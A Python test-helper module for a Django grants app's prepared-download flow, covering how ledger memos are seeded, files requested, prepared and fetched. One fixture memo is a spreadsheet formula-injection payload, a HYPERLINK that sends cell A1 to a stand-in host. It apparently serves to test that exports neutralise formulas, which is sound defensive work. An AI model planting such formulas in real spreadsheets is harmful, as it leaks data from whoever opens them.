"""What tests of prepared downloads share: a ledger with rows to write, asking for a file,
and fetching a large file as a person now does (its address leads to My downloads with
the file offered, the button asks for it, the worker writes it (here, in the test), and
the person fetches it from My downloads)."""

import io
import uuid
from datetime import date
from decimal import Decimal
from urllib.parse import parse_qsl, urlsplit

from django.http import FileResponse
from django.urls import resolve, reverse

from budgets.models import LedgerEntry
from grants.models import Award
from reports import prepared
from reports.models import PreparedDownload

HYPERLINK = '=HYPERLINK("http://x.invalid/?"&A1,"Open")'
BRAVO_MEMO = "Bravo-only memo"


def drawdowns_with_memos(program) -> None:
    """A drawdown on each task force's award; A's memo looks like a formula."""
    Award.objects.filter(pk__in=[program.award_a.pk, program.award_b.pk]).update(status="active")
    for award, amount, memo, officer in (
        (program.award_a, "1234.56", HYPERLINK, program.officer_a),
        (program.award_b, "777.77", BRAVO_MEMO, program.officer_b),
    ):
        LedgerEntry.objects.create(
            award=award,
            kind="drawdown",
            amount=Decimal(amount),
            effective_date=date(2025, 1, 5),
            actor=officer,
            idempotency_key=uuid.uuid4(),
            memo=memo,
        )


def ask(user, kind: str, **selection) -> PreparedDownload:
    """`user` asks for the file `kind` of the selection, as the page's button does."""
    return prepared.request_download(
        user=user, kind=kind, selection=prepared.selection_for(user=user, **selection)
    )


def fetch_prepared(client, url: str, data: dict | None = None) -> FileResponse:
    """The file the old address `url` names, as the signed-in person gets it."""
    response = client.get(url, data)
    assert response.status_code == 302, response.status_code
    offered = urlsplit(response["Location"])
    assert offered.path == reverse("exports:my_downloads")
    offer = client.get(response["Location"])
    assert offer.status_code == 200 and 'data-testid="prepare-offer"' in offer.content.decode()
    asked = client.post(reverse("exports:prepare_download"), dict(parse_qsl(offered.query)))
    assert asked.status_code == 302, asked.status_code
    download_id = resolve(asked["Location"]).kwargs["pk"]
    prepared.prepare(download_id)  # as the worker would (the test's storage is temporary)
    download = PreparedDownload.objects.get(pk=download_id)
    assert download.status == "ready", download.error
    fetched = client.get(reverse("exports:download_file", args=[download_id]))
    assert fetched.status_code == 200
    content = b"".join(fetched.streaming_content)
    # The file as fetched, with its headers, to be read as often as a test likes.
    response = FileResponse(
        io.BytesIO(content),
        as_attachment=True,
        filename=download.filename,
        content_type=download.content_type,
    )
    for header, value in fetched.items():
        response[header] = value
    return response
